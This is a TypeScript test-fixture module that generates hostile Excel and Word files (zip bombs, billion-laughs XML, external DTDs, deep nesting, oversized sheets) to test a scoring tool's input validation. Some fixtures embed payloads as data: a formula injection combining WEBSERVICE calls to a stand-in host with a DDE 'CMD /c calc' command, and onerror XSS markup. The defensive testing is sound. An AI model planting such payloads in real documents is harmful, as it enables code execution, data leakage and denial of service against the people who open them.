import { readFileSync } from "node:fs";
import { strFromU8, unzipSync } from "fflate";
import { columnName } from "../../src/core/grid/address";
import { compound, docx, paragraph, table } from "./docx";
import { rawZip, type RawFile } from "./raw-zip";
import { samplePath } from "./sample";
import { sheetXml } from "./xlsx";

// Files that want to take all the time or memory there is, or to be taken for something else. They are made when they are needed: some
// are large, and some would keep a scanner of the machine from letting anybody fetch the project.

/** One hostile file, and what must come of it. */
export interface Hostile {
  readonly name: string;
  readonly make: () => Uint8Array;
  /** The code of the refusal and what its message must say; null where the file is to be processed like any other. */
  readonly refusal: { readonly code: string; readonly says: RegExp } | null;
}

const MB = 1 << 20;
const TYPES = "[Content_Types].xml";
const BOOK = "xl/workbook.xml";
const RELATIONS = "xl/_rels/workbook.xml.rels";
const STRINGS = "xl/sharedStrings.xml";
const STYLES = "xl/styles.xml";
/** 附件5 of the shipped workbook. */
const SCORES = "xl/worksheets/sheet3.xml";

type Change = string | ((xml: string) => string);

function partsOf(bytes: Uint8Array): readonly RawFile[] {
  return Object.entries(unzipSync(bytes)).map(([name, content]) => ({ name, content }));
}

function changed(parts: readonly RawFile[], changes: Readonly<Record<string, Change>>, more: readonly RawFile[]): Uint8Array {
  const kept = parts.map((part) => {
    const change = changes[part.name];
    const xml = (): string => strFromU8(part.content as Uint8Array);
    return change === undefined ? part : { ...part, content: typeof change === "function" ? change(xml()) : change };
  });
  return rawZip([...kept, ...more]);
}

const sampleParts = partsOf(new Uint8Array(readFileSync(samplePath)));

/** The shipped workbook with some of its parts changed, and more of them. */
function sampleWith(changes: Readonly<Record<string, Change>>, more: readonly RawFile[] = []): Uint8Array {
  return changed(sampleParts, changes, more);
}

/** The shipped workbook with more sheets (附表1 …) behind its own. */
function withSheets(...sheets: readonly string[]): Uint8Array {
  const each = (text: (index: number) => string): string => sheets.map((_, index) => text(index)).join("");
  const type = "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml";
  const kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet";
  return sampleWith(
    {
      [TYPES]: before(
        "</Types>",
        each((index) => `<Override PartName="/xl/worksheets/more${index}.xml" ContentType="${type}"/>`),
      ),
      [RELATIONS]: before(
        "</Relationships>",
        each((index) => `<Relationship Id="more${index}" Type="${kind}" Target="worksheets/more${index}.xml"/>`),
      ),
      [BOOK]: before(
        "</sheets>",
        each((index) => `<sheet name="附表${index + 1}" sheetId="${1000 + index}" r:id="more${index}"/>`),
      ),
    },
    sheets.map((content, index) => ({ name: `xl/worksheets/more${index}.xml`, content })),
  );
}

/** Puts text in front of what stands in an XML; a test whose place is gone fails rather than test nothing. */
function before(place: string, text: string): (xml: string) => string {
  return (xml) => replaced(xml, place, `${text}${place}`);
}

function behind(place: string, text: string): (xml: string) => string {
  return (xml) => replaced(xml, place, `${place}${text}`);
}

function replaced(xml: string, place: string, by: string): string {
  const at = xml.indexOf(place);
  if (at < 0) throw new Error(`没有 ${place}`);
  return xml.slice(0, at) + by + xml.slice(at + place.length);
}

const data = (rows: string): string => sheetXml(`<sheetData>${rows}</sheetData>`);
const textCell = (address: string, text: string): string => `<c r="${address}" t="inlineStr"><is><t>${text}</t></is></c>`;

/** Rows of cells with an address each, as Excel writes them. */
function grid(rows: number, columns: number, inside: string): string {
  const names = Array.from({ length: columns }, (_, column) => columnName(column));
  const row = (number: number): string => names.map((name) => `<c r="${name}${number}"${inside}`).join("");
  return Array.from({ length: rows }, (_, index) => `<row r="${index + 1}">${row(index + 1)}</row>`).join("");
}

/** An entity that is made of ten of the one before it, nine times over. */
function laughs(root: string): string {
  const entities = Array.from({ length: 9 }, (_, n) => `<!ENTITY a${n + 1} "${`&a${n};`.repeat(10)}">`);
  return `<!DOCTYPE ${root} [<!ENTITY a0 "${"ha".repeat(50)}">${entities.join("")}]>`;
}

const nested = (levels: number): string => `${"<a>".repeat(levels)}${"</a>".repeat(levels)}`;

function refused(name: string, code: string, says: RegExp, make: () => Uint8Array): Hostile {
  return { name, make, refusal: { code, says } };
}

function processed(name: string, make: () => Uint8Array): Hostile {
  return { name, make, refusal: null };
}

const bombs: readonly Hostile[] = [
  refused("a sheet of 90 MB of nothing", "too-large", /解开后太大.*请/u, () => withSheets(data(" ".repeat(90 * MB)))),
  refused("five thousand names for one part", "damaged", /重叠/u, () =>
    sampleWith({}, [
      { name: "xl/x.xml", content: " ".repeat(MB) },
      ...Array.from({ length: 5000 }, (_, index) => ({ name: `xl/x${index}.xml`, content: "", sharedWith: "xl/x.xml" })),
    ]),
  ),
  refused("a part that declares less than it holds", "damaged", /附件5.*大小不符/u, () =>
    rawZip(sampleParts.map((part) => (part.name === SCORES ? { ...part, content: data(" ".repeat(20 * MB)), declared: 5000 } : part))),
  ),
  refused("a part that declares more than it can hold", "damaged", /附件5.*大小不符/u, () =>
    rawZip(sampleParts.map((part) => (part.name === SCORES ? { ...part, declared: 390 * MB } : part))),
  ),
  refused("zips in zips", "not-xlsx", /压缩包不是 Excel 工作簿.*解压/u, () => {
    const inner = (level: number): Uint8Array =>
      rawZip(level === 0 ? [{ name: "0.xml", content: " ".repeat(10 * MB) }] : [{ name: `${level}.zip`, content: inner(level - 1) }]);
    return inner(5);
  }),
  refused("ten thousand sheets", "too-large", /部分，太多了.*另存/u, () => withSheets(...Array.from({ length: 10_000 }, () => data("")))),
  refused("two thousand sheets", "too-large", /2004 张工作表/u, () => withSheets(...Array.from({ length: 2000 }, () => data("")))),
  processed("pictures that unpack to more than may be read", () =>
    sampleWith({}, [
      { name: "xl/media/image1.bmp", content: new Uint8Array(60 * MB) },
      { name: "xl/media/image2.bmp", content: new Uint8Array(60 * MB) },
    ]),
  ),
];

const large: readonly Hostile[] = [
  refused("a million cells", "too-large", /附表1.*单元格.*太多.*请/u, () => withSheets(data(grid(1000, 1000, "><v>1</v></c>")))),
  refused("a million blank cells with a format", "too-large", /附表1.*带格式的空行/u, () =>
    withSheets(data(grid(10_000, 100, ' s="1"/>'))),
  ),
  refused("a row for each of the 1,048,576", "too-large", /附件5.*单元格.*太多/u, () =>
    sampleWith({ [SCORES]: before("</sheetData>", `<row r="101" ht="15"/>${'<row ht="15"/>'.repeat(1_048_475)}`) }),
  ),
  refused("content in the last cell", "too-large", /附件5.*XFD1048576.*请/u, () =>
    sampleWith({ [SCORES]: before("</sheetData>", `<row r="1048576">${textCell("XFD1048576", "x")}</row>`) }),
  ),
  refused("content all over", "too-large", /附表1.*最下面到 A1048576，最右面到 XFD1/u, () =>
    withSheets(data(`<row r="1">${textCell("XFD1", "x")}</row><row r="1048576">${textCell("A1048576", "x")}</row>`)),
  ),
  refused("a merge over each of sixteen thousand columns", "too-large", /附件5.*合并单元格太多/u, () => {
    const column = (index: number): string => columnName(index + 50);
    const merges = Array.from({ length: 16_000 }, (_, index) => `<mergeCell ref="${column(index)}1:${column(index)}1048576"/>`);
    return sampleWith({ [SCORES]: before("</mergeCells>", merges.join("")) });
  }),
  refused("seven hundred thousand cell formats", "too-large", /格式.*太多.*请/u, () =>
    sampleWith({ [STYLES]: before("</cellXfs>", '<xf numFmtId="0"/>'.repeat(700_000)) }),
  ),
  refused("a text of 17 million characters in 附件3", "too-large", /附件3.*A1.*32767/u, () =>
    sampleWith({ [STRINGS]: behind("<t>", "长".repeat(17 * MB)) }),
  ),
  refused("one long text in a thousand cells", "too-large", /附表1.*文字已经太多/u, () =>
    withSheets(
      data(`<row r="1"><c r="A1"><v>1</v></c></row>${grid(1000, 1, ' t="str"><f>A1</f><v>@</v></c>').replaceAll("@", "长".repeat(6000))}`),
    ),
  ),
  refused("a text longer than any cell can hold", "too-large", /附表1.*B2.*32767/u, () =>
    withSheets(data(`<row r="2">${textCell("B2", "长".repeat(40_000))}</row>`)),
  ),
  processed("content in the last row", () =>
    sampleWith({ [SCORES]: before("</sheetData>", `<row r="1048576">${textCell("A1048576", "x")}</row>`) }),
  ),
  processed("content in the last column of 附件6", () =>
    sampleWith({ "xl/worksheets/sheet4.xml": before("</sheetData>", `<row r="100">${textCell("XFD100", "x")}</row>`) }),
  ),
  processed("a hundred thousand numbers beside the forms", () => withSheets(data(grid(1000, 100, "><v>1</v></c>")))),
  processed("a shared formula in fifty thousand cells", () =>
    withSheets(
      data(
        `<row r="1"><c r="A1"><f t="shared" si="0" ref="A1:J5001">B2+1</f></c></row>${grid(5001, 10, '><f t="shared" si="0"/></c>').replace(/^<row r="1">.*?<\/row>/u, "")}`,
      ),
    ),
  ),
  processed("a dimension over everything", () =>
    sampleWith({
      [SCORES]: (xml) => xml.replace(/<dimension[^>]*>/u, "").replace(/<worksheet[^>]*>/u, '$&<dimension ref="A1:XFD1048576"/>'),
    }),
  ),
  processed("columns to XFD", () =>
    sampleWith({
      [SCORES]: (xml) => xml.replace(/<cols>.*<\/cols>/su, '<cols><col min="1" max="16384" width="9" customWidth="1"/></cols>'),
    }),
  ),
  processed("every column hidden a hundred thousand times", () =>
    withSheets(sheetXml(`<cols>${'<col min="1" max="16384" hidden="1"/>'.repeat(100_000)}</cols><sheetData/>`)),
  ),
  processed("a merge over everything", () =>
    withSheets(
      sheetXml(`<sheetData><row r="1"><c r="A1"><v>1</v></c></row></sheetData><mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>`),
    ),
  ),
  processed("a validation over everything", () =>
    sampleWith({
      [SCORES]: behind(
        "</mergeCells>",
        `<dataValidations count="1"><dataValidation type="list" sqref="A1:XFD1048576"><formula1>"是,否"</formula1></dataValidation></dataValidations>`,
      ),
    }),
  ),
  processed("our own mark on the same cells twenty thousand times", () =>
    withSheets(
      sheetXml(
        `<sheetData/><conditionalFormatting sqref="${"A1:T1000 ".repeat(20_000)}"><cfRule type="expression" priority="1"><formula>LEN("绩效核分 error")&gt;0</formula></cfRule></conditionalFormatting>`,
      ),
    ),
  ),
  processed("fifty thousand names", () =>
    sampleWith({
      [BOOK]: (xml) =>
        replaced(
          xml.replace(/<definedNames>.*<\/definedNames>/su, ""),
          "</sheets>",
          `</sheets><definedNames>${Array.from({ length: 50_000 }, (_, index) => `<definedName name="n${index}">#REF!</definedName>`).join("")}</definedNames>`,
        ),
    }),
  ),
  processed("shared strings of 14 MB that no cell shows", () =>
    sampleWith({ [STRINGS]: before("</sst>", "<si><t>支付办公用品费用若干元整，附原始凭证</t></si>".repeat(200_000)) }),
  ),
  processed("a number format of two million characters", () =>
    sampleWith({ [STYLES]: (xml) => xml.replace(/formatCode="[^"]*"/u, `formatCode="${"0.0;".repeat(500_000)}"`) }),
  ),
];

const crooked: readonly Hostile[] = [
  refused("a sheet that is the workbook itself", "damaged", /附件5.*没有数据区/u, () =>
    sampleWith({ [RELATIONS]: (xml) => replaced(xml, "worksheets/sheet3.xml", "workbook.xml") }),
  ),
  refused("relationships of relationships", "not-xlsx", /不是 Excel 工作簿/u, () =>
    sampleWith({ "_rels/.rels": (xml) => replaced(xml, "xl/workbook.xml", "_rels/.rels") }),
  ),
  refused("a sheet on somebody's server", "damaged", /找不到工作表“附件5”/u, () =>
    sampleWith({
      [RELATIONS]: (xml) =>
        xml.replace(/Target="[^"]*worksheets\/sheet3\.xml"/u, 'Target="http://rescore.example/sheet3.xml" TargetMode="External"'),
    }),
  ),
  refused("two sheets in one part", "damaged", /附件3.*附件5.*同一处/u, () =>
    sampleWith({ [RELATIONS]: (xml) => replaced(xml, "worksheets/sheet3.xml", "worksheets/sheet1.xml") }),
  ),
  refused("two sheets of one name", "damaged", /都叫“附件3”/u, () =>
    sampleWith({ [BOOK]: (xml) => replaced(xml, 'name="附件5"', 'name="附件3"') }),
  ),
  refused("a sheet with a name of a thousand characters", "damaged", /名称太长/u, () =>
    sampleWith({ [BOOK]: (xml) => replaced(xml, 'name="附件5"', `name="${"附".repeat(1000)}"`) }),
  ),
  refused("a billion laughs", "damaged", /附件5.*外部定义/u, () =>
    sampleWith({ [SCORES]: (xml) => replaced(xml, "<worksheet", `${laughs("worksheet")}<worksheet`) }),
  ),
  refused("an external DTD", "damaged", /文字表.*外部定义/u, () =>
    sampleWith({ [STRINGS]: (xml) => replaced(xml, "<sst", `<!DOCTYPE sst SYSTEM "http://rescore.example/x.dtd"><sst`) }),
  ),
  refused("an entity that nobody has defined", "damaged", /文字表.*不完整或有错/u, () =>
    sampleWith({ [STRINGS]: behind("<t>", "&nbsp;") }),
  ),
  refused("elements in elements beside the data", "damaged", /附件5.*套得太深/u, () =>
    sampleWith({ [SCORES]: before("</worksheet>", nested(100_000)) }),
  ),
  refused("elements in elements within the data", "damaged", /附件5.*套得太深/u, () =>
    sampleWith({ [SCORES]: before("</sheetData>", `<row r="900">${nested(100_000)}</row>`) }),
  ),
  refused("elements in elements within a text", "damaged", /文字表.*套得太深/u, () =>
    sampleWith({ [STRINGS]: before("</sst>", `<si>${nested(100_000)}</si>`) }),
  ),
  refused("ten thousand attributes", "damaged", /附件5.*属性太多/u, () =>
    sampleWith({
      [SCORES]: before("</sheetData>", `<row r="900" ${Array.from({ length: 10_000 }, (_, index) => `a${index}=""`).join(" ")}/>`),
    }),
  ),
  refused("half a file", "damaged", /没有下载完/u, () => new Uint8Array(readFileSync(samplePath)).subarray(0, 20_000)),
  refused("a password", "encrypted", /打开密码.*请/u, () => compound("EncryptionInfo")),
  refused("an .xls by another name", "not-xlsx", /旧版 \.xls.*另存为 \.xlsx/u, () => compound("Workbook")),
  refused("101 MB", "too-large", /超过 100 MB.*请/u, () => {
    const bytes = new Uint8Array(101 * MB);
    bytes.set([0x50, 0x4b, 3, 4]);
    return bytes;
  }),
  processed("formulas in names", () =>
    sampleWith({
      [BOOK]: (xml) =>
        replaced(
          xml.replace(/<definedNames>.*<\/definedNames>/su, ""),
          "</sheets>",
          `</sheets><definedNames><definedName name="甲">WEBSERVICE("http://rescore.example/")&amp;CMD|'/c calc'!A0</definedName><definedName name="_xlnm.Print_Area" localSheetId="2">${"a".repeat(MB)}</definedName></definedNames>`,
        ),
    }),
  ),
  processed("markup in every sentence and in the name of a sheet", () =>
    sampleWith({
      [STRINGS]: (xml) => xml.replace(/(?<=[^<>]{80})<\/t>/gu, "&lt;img src=x onerror=alert(1)&gt;$&"),
      [BOOK]: (xml) => replaced(xml, 'name="附件3"', 'name="&lt;b&gt;附件3"'),
    }),
  ),
];

/** Workbooks that are hostile in one way each. */
export const hostileWorkbooks: readonly Hostile[] = [...bombs, ...large, ...crooked];

const DOCUMENT = "word/document.xml";
const words = (text: string): RegExp => new RegExp(`^“坏\\.docx”.*${text}.*请`, "u");

/** A Word report with its document changed. */
function reportWith(body: readonly string[], change: Change, more: readonly RawFile[] = []): Uint8Array {
  return changed(partsOf(docx(...body)), { [DOCUMENT]: change }, more);
}

const title = paragraph("2022年部门整体支出绩效评价报告");

/** Word reports of the same kinds; each is to be read under the name 坏.docx. */
export const hostileReports: readonly Hostile[] = [
  refused("30 MB of nothing", "too-large", words("太大"), () => reportWith([title], before("</w:body>", " ".repeat(30 * MB)))),
  refused("a document that declares less than it holds", "damaged", words("读不出文字"), () =>
    rawZip(
      partsOf(docx(title)).map((part) =>
        part.name === DOCUMENT
          ? { ...part, content: `${strFromU8(part.content as Uint8Array)}${" ".repeat(15 * MB)}`, declared: 500 }
          : part,
      ),
    ),
  ),
  refused("five hundred names for one part", "damaged", words("读不出文字"), () =>
    reportWith([title], (xml) => xml, [
      { name: "word/x.xml", content: " ".repeat(MB) },
      ...Array.from({ length: 500 }, (_, index) => ({ name: `word/x${index}.xml`, content: "", sharedWith: "word/x.xml" })),
    ]),
  ),
  refused("a billion laughs", "damaged", words("读不出文字"), () =>
    reportWith([paragraph("&a9;")], (xml) => `${laughs("w:document")}${xml}`),
  ),
  refused("paragraphs in paragraphs", "damaged", words("读不出文字"), () =>
    reportWith([title], before("</w:body>", `${"<w:ins>".repeat(50_000)}${"</w:ins>".repeat(50_000)}`)),
  ),
  refused("a million runs", "too-large", words("太大"), () => docx(title, `<w:p>${"<w:r/>".repeat(1_000_000)}</w:p>`)),
  refused("two hundred thousand paragraphs", "too-large", words("太大"), () => docx(title, "<w:p/>".repeat(200_000))),
  refused("more words than a report has", "too-large", words("不像一份评价报告"), () =>
    docx(title, paragraph("预算执行良好。".repeat(1000)).repeat(100)),
  ),
  refused("a paragraph of fifty thousand characters", "too-large", words("第 2 段超过 32767 个字"), () =>
    docx(title, paragraph("长".repeat(50_000))),
  ),
  refused("an old .doc", "not-docx", words("旧版 Word"), () => compound("WordDocument")),
  refused("a password", "encrypted", words("打开密码"), () => compound("EncryptionInfo")),
  refused("half a file", "damaged", words("读不出文字"), () => docx(title, paragraph("完")).subarray(0, 500)),
  processed("pictures that unpack to more than may be read", () =>
    changed(partsOf(docx(title)), {}, [{ name: "word/media/image1.bmp", content: new Uint8Array(90 * MB) }]),
  ),
  processed("markup in its words", () => docx(title, paragraph("&lt;img src=x onerror=alert(1)&gt;"), table([["&lt;b&gt;", "=1+1"]]))),
];
